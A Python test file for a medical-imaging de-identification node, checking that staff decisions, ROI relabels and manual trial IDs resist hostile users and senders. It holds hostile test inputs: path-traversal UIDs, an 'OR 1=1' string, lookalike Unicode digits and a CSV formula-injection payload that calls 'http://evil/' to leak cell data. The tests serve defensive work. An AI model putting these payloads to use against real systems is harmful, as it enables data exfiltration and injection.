"""Staff decisions on the identifiable node against what a hostile user or sender tries, without
a server: a rejection undone by a forged or racing release, by `uploader review reject` (which
approved), or by one more instance sent; a trial changed on a study the pipeline had validated;
ROI relabels that carry the patient's name or ID, hidden characters, or another ROI's name;
manual IDs that are the patient's birth date written another way, or another study's session;
and the pages' helpers for ids, values, series UIDs and CSV cells."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from pydicom import dcmread

from identifiable_node import decisions as staff
from identifiable_node.store import Store, Study, StudyState
from identifiable_node.web.nodepages import csv_cells
from uploader.sample import Patient, write_study
from uploader.web.site import row_id, shown
from uploader.web.studyfiles import StudyFiles, series_key

from .conftest import run_cli
from .peers import node_config

PATIENT = staff.Patient("9434765919", ("MRN0012345",), "ADAMS^ALICE", "19620314")
ROIS = ["Prostate", "Rectm", "Bladder", "PTV_1"]


def _study(store: Store, files: list[Path] | None = None, state: str = "needs_review") -> int:
    for n, path in enumerate(files or [Path("/nowhere")]):
        modality = str(dcmread(path).Modality) if files else "CT"
        store.add_instance(
            study_uid="1.2.3", sop_uid=f"1.2.3.4.{n}", series_uid="1.2.3.5", modality=modality,
            path=str(path), patient_id=PATIENT.patient_id, other_ids="", protocol=None,
            source="test",
        )  # fmt: skip
    (study,) = store.studies()
    store.release(study.id, StudyState(state), "test", reason="why")
    return study.id


def _state(store: Store, study_id: int) -> str:
    study = store.study(study_id)
    assert study is not None
    return str(study.state)


def test_a_release_racing_a_rejection_never_undoes_it(tmp_path: Path) -> None:
    """The page's check saw the study open, a colleague rejected it in between: the write sees
    the rejection and refuses (a stale read, exactly the interleaving of two requests)."""
    store = Store(tmp_path / "node.sqlite")
    study_id = _study(store)
    stale = store.study(study_id)
    staff.reject(store, study_id, "wrong patient", "adam")

    class Stale(Store):
        def study(self, wanted: int) -> Study | None:
            return stale  # what the first request read before the rejection

    racing = Stale(tmp_path / "node.sqlite")
    for decide in (
        lambda: staff.approve(racing, study_id, "rita", override=True),
        lambda: staff.hold(racing, study_id, "", "rita"),
        lambda: staff.relabel(racing, study_id, {"Rectm": "Rectum"}, "rita"),
    ):
        with pytest.raises(staff.Refused, match=r"meanwhile|now: reload"):
            decide()
    assert _state(store, study_id) == "rejected"
    with pytest.raises(staff.Refused, match="cannot approve a study that is rejected"):
        staff.approve(store, study_id, "rita", override=True)  # `review approve` did it


def test_one_more_instance_does_not_reopen_a_rejected_study(tmp_path: Path) -> None:
    store = Store(tmp_path / "node.sqlite")
    study_id = _study(store)
    staff.reject(store, study_id, "not this patient", "rita")
    store.add_instance(
        study_uid="1.2.3", sop_uid="1.2.3.4.99", series_uid="1.2.3.5", modality="CT",
        path="/late", patient_id=PATIENT.patient_id, other_ids="", protocol=None, source="scp",
    )  # fmt: skip
    assert _state(store, study_id) == "rejected"


def test_a_late_instance_drops_the_override_staff_gave_to_what_they_saw(tmp_path: Path) -> None:
    store = Store(tmp_path / "node.sqlite")
    study_id = _study(store)
    staff.approve(store, study_id, "rita", override=True)
    store.release(study_id, StudyState.FORWARDED, "pipeline")
    store.add_instance(
        study_uid="1.2.3", sop_uid="1.2.3.4.99", series_uid="1.2.3.6", modality="RTSTRUCT",
        path="/late", patient_id=PATIENT.patient_id, other_ids="", protocol=None, source="scp",
    )  # fmt: skip
    study = store.study(study_id)
    assert study is not None and study.state == "receiving"
    assert "override" not in study.decided  # the late series is validated like any other


def test_a_trial_changed_on_a_validated_study_is_validated_again(tmp_path: Path) -> None:
    """Validated under one trial, then moved to another before the worker took it: it must not
    be de-identified under a trial it was never validated against."""
    store = Store(tmp_path / "node.sqlite")
    study_id = _study(store, state="validated")
    store.claim("worker", 60, (StudyState.VALIDATED,))  # the worker has it in hand

    class OneTrial:
        def get(self, pid: str) -> object | None:
            return object() if pid == "OTHER" else None

    staff.choose_trial(store, OneTrial(), study_id, "OTHER", "rita")  # type: ignore[arg-type]
    assert _state(store, study_id) == "complete"
    # the worker's claim lost: its result is not recorded
    assert not store.release(study_id, StudyState.PSEUDONYMISED, "worker", lease="worker")
    assert _state(store, study_id) == "complete"


def test_review_reject_rejects_with_a_reason_and_never_approves(tmp_path: Path) -> None:
    config = node_config(tmp_path, "https://127.0.0.1:9/dicom-web", None)
    (tmp_path / "data").mkdir(exist_ok=True)
    store = Store(tmp_path / "data" / "node.sqlite")
    study_id = _study(store)
    bare = run_cli("review", "reject", str(study_id), "--config", config)
    assert bare.returncode != 0 and "needs a reason" in bare.stderr
    done = run_cli("review", "reject", str(study_id), "--config", config, "--reason", "dup")
    assert done.returncode == 0, done.stderr
    assert _state(store, study_id) == "rejected"  # it was sent on as approved
    again = run_cli("review", "approve", str(study_id), "--override", "--config", config)
    assert again.returncode != 0 and "rejected" in again.stderr
    assert _state(store, study_id) == "rejected"


def test_review_approve_checks_a_subject_id_as_the_pages_do(tmp_path: Path) -> None:
    config = node_config(tmp_path, "https://127.0.0.1:9/dicom-web", None)
    (tmp_path / "data").mkdir(exist_ok=True)
    store = Store(tmp_path / "data" / "node.sqlite")
    study_id = _study(store)
    own = run_cli(
        "review", "approve", str(study_id), "--subject", f"S-{PATIENT.patient_id}",
        "--trial", "PACE-C", "--config", config,
    )  # fmt: skip
    assert own.returncode != 0 and "the patient's ID" in own.stderr
    assert PATIENT.patient_id not in own.stderr
    unknown = run_cli("review", "approve", str(study_id), "--trial", "NOPE", "--config", config)
    assert unknown.returncode != 0 and "no trial" in unknown.stderr
    assert _state(store, study_id) == "needs_review"


@pytest.fixture
def rt_study(tmp_path: Path) -> tuple[Store, int]:
    patient = Patient(name=PATIENT.name, patient_id=PATIENT.patient_id, birth_date="19620314")
    files = [f for f in write_study(tmp_path / "s", slices=1, rois=ROIS, patient=patient)
             if f.suffix != ".txt"]  # fmt: skip
    store = Store(tmp_path / "node.sqlite")
    return store, _study(store, files)


@pytest.mark.parametrize(
    ("new", "why"),
    [
        ("Adams_PTV", "the patient's name"),
        ("alice", "the patient's name"),
        ("PTV 9434 765 919", "the patient's ID"),
        ("PTV_\u0669\u0664\u0663\u0664\u0667\u0666\u0665\u0669\u0661\u0669", "the patient's ID"),
        ("PTV_14/03/1962", "birth date"),
        ("Rectum\u202e", "control characters"),
        ("Rec\x00tum", "control characters"),
        ("R" * 200, "at most 64 characters"),
        ("bladder", "another ROI"),  # Bladder is there already
    ],
)
def test_a_relabel_that_holds_the_patient_or_hides_characters_is_refused(
    rt_study: tuple[Store, int], new: str, why: str
) -> None:
    store, study_id = rt_study
    names = staff.roi_names(store, study_id)
    assert sorted(names) == sorted(ROIS)
    with pytest.raises(staff.Refused) as info:
        staff.relabel(store, study_id, {"Rectm": new}, "rita", names=names, patient=PATIENT)
    assert why in str(info.value) and new not in str(info.value)
    study = store.study(study_id)
    assert study is not None and "relabel" not in study.decided
    assert not [r for r in store.audit_rows(study_id) if r.action == "ROI relabelled"]


def test_relabels_may_swap_names_but_not_name_an_roi_the_study_lacks(
    rt_study: tuple[Store, int],
) -> None:
    store, study_id = rt_study
    names = staff.roi_names(store, study_id)
    with pytest.raises(staff.Refused, match="no ROI of that name"):
        staff.relabel(store, study_id, {"Spleen": "Rectum"}, "rita", names=names, patient=PATIENT)
    swapped = {"Prostate": "Bladder", "Bladder": "Prostate", "Rectm": ""}
    now = staff.relabel(store, study_id, swapped, "rita", names=names, patient=PATIENT)
    assert now == {"Prostate": "Bladder", "Bladder": "Prostate"}
    relabel_rows = [r.detail for r in store.audit_rows(study_id) if r.action == "ROI relabelled"]
    assert relabel_rows == ["'Bladder' -> 'Prostate'", "'Prostate' -> 'Bladder'"]


@pytest.mark.parametrize("entry", ["PACE-14031962", "PACE-03141962", "PACE-140362", "P-620314"])
def test_a_manual_id_holding_the_birth_date_written_another_way_is_refused(entry: str) -> None:
    with pytest.raises(staff.Refused, match="birth date"):
        staff.check_id(entry, "subject ID", r"^[A-Z]+-\d+$", PATIENT)


def test_a_session_id_another_study_has_in_the_trial_is_refused(tmp_path: Path) -> None:
    store = Store(tmp_path / "node.sqlite")
    store.link("PACE-C", "111", "1.9.9", "PACE-0001", "PACE-0001_CT01")
    assert store.session_taken("PACE-C", "PACE-0001_CT01", "1.2.3")
    assert not store.session_taken("PACE-C", "PACE-0001_CT01", "1.9.9")  # its own study
    assert not store.session_taken("OTHER", "PACE-0001_CT01", "1.2.3")


def test_ids_values_series_uids_and_csv_cells_are_made_safe(tmp_path: Path) -> None:
    assert row_id("12") == 12
    for hostile in ("\u0661", "9" * 19, "-1", "1e3", "", " 1", "12\n"):
        assert row_id(hostile) is None, hostile
    assert shown("ADAMS\u202e^ALICE\x00") == "ADAMS\ufffd^ALICE\ufffd"
    assert shown("Müller\tJörg\n") == "Müller\tJörg\n"
    assert series_key("1.2.840.10008.5") == "1.2.840.10008.5"
    for hostile in ("../../../links.csv?", "..", "1.2/3", "1.2.3?x", "1" * 65):
        key = series_key(hostile)
        assert key.startswith("x") and key.isalnum(), hostile
    row = csv_cells(['=HYPERLINK("http://evil/"&A1)', "+1", "@SUM(A1)", "-2", "PACE-0001"])
    assert row[:4] == ['\'=HYPERLINK("http://evil/"&A1)', "'+1", "'@SUM(A1)", "'-2"]
    assert row[4] == "PACE-0001"
    buf = io.StringIO()
    csv.writer(buf).writerow(row)
    assert not next(csv.reader(io.StringIO(buf.getvalue())))[0].startswith("=")


def test_a_header_value_that_is_not_its_vr_does_not_break_the_study_view(tmp_path: Path) -> None:
    """A patient's name in SeriesNumber (an IS): the series is shown with number 0, and the
    page neither fails nor quotes the value anywhere."""
    files = [f for f in write_study(tmp_path / "s", slices=2) if f.suffix != ".txt"]
    ct = [f for f in files if dcmread(f).Modality == "CT"]
    for f in ct:
        ds = dcmread(f)
        ds.add_new("SeriesNumber", "IS", None)
        ds["SeriesNumber"]._value = "ADAMS"  # as a hostile sender writes it
        ds.SeriesInstanceUID = "../../../links.csv?"
        ds.save_as(f)
    view = StudyFiles(lambda _i: [(str(dcmread(f).SOPInstanceUID), str(f)) for f in files])
    found = view.view(1)
    (series,) = [s for s in found.series if s.modality == "CT"]
    assert series.number == 0 and series.uid == series_key("../../../links.csv?")
    assert len(series.slices) == 2 and found.unreadable == 0


def test_a_held_study_stays_held_when_the_sender_sends_more(tmp_path: Path) -> None:
    store = Store(tmp_path / "node.sqlite")
    study_id = _study(store)
    staff.hold(store, study_id, "check the contours with Dr Who", "rita")
    store.add_instance(
        study_uid="1.2.3", sop_uid="1.2.3.4.99", series_uid="1.2.3.5", modality="CT",
        path="/late", patient_id=PATIENT.patient_id, other_ids="", protocol=None, source="scp",
    )  # fmt: skip
    study = store.study(study_id)
    assert study is not None and study.state == "needs_review"
    assert study.reason == "held by rita: check the contours with Dr Who"
    with pytest.raises(staff.Refused, match="at most 500 characters"):
        staff.reject(store, study_id, "x" * 501, "rita")
    staff.approve(store, study_id, "rita")  # a release ends the hold
    study = store.study(study_id)
    assert study is not None and study.state == "complete" and "held" not in study.decided


def test_a_name_part_forbids_an_roi_name_only_as_a_whole_word(tmp_path: Path) -> None:
    lee = staff.Patient("9434765919", (), "LEE^ANNA", "19620314")
    final = {"Spleen": "Spleen", "Rectm": "Rectm"}
    staff._check_new_name("Rectm", "Spleen_2", final, lee)
    with pytest.raises(staff.Refused, match="the patient's name"):
        staff._check_new_name("Rectm", "PTV_Lee", final, lee)
    with pytest.raises(staff.Refused, match="the patient's ID"):
        staff._check_new_name("Rectm", "PTV9434765919x", final, lee)


@pytest.mark.parametrize(
    "entry",
    [
        "PACE-0042\nPACE-0043",
        "PACE-\uff10\uff10\uff14\uff12",  # full-width digits
        "PACE-\u0660\u0660\u0664\u0662",  # Arabic-Indic digits: \\d takes them
        "PACE-0042\u200b",
        "PACE-0042 OR 1=1",
    ],
)
def test_a_manual_id_that_only_looks_like_the_pattern_is_refused(entry: str) -> None:
    with pytest.raises(staff.Refused, match=r"pattern|only letters, digits"):
        staff.check_id(entry, "subject ID", r"^PACE-\d{4}$", PATIENT)


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        ("S-smada-01", "the patient's name reversed"),
        ("ALICE-ADAMS", "the patient's name"),
        ("S-9434-7659-19", "the patient's ID"),
        ("S-9195674349", "the patient's ID reversed"),
        ("s-mrn0012345", "NHS number or other ID"),
    ],
)
def test_a_manual_id_holding_the_patient_in_disguise_is_refused(entry: str, why: str) -> None:
    with pytest.raises(staff.Refused) as info:
        staff.check_id(entry, "subject ID", r"^[A-Za-z0-9-]+$", PATIENT)
    assert why in str(info.value) and entry not in str(info.value)
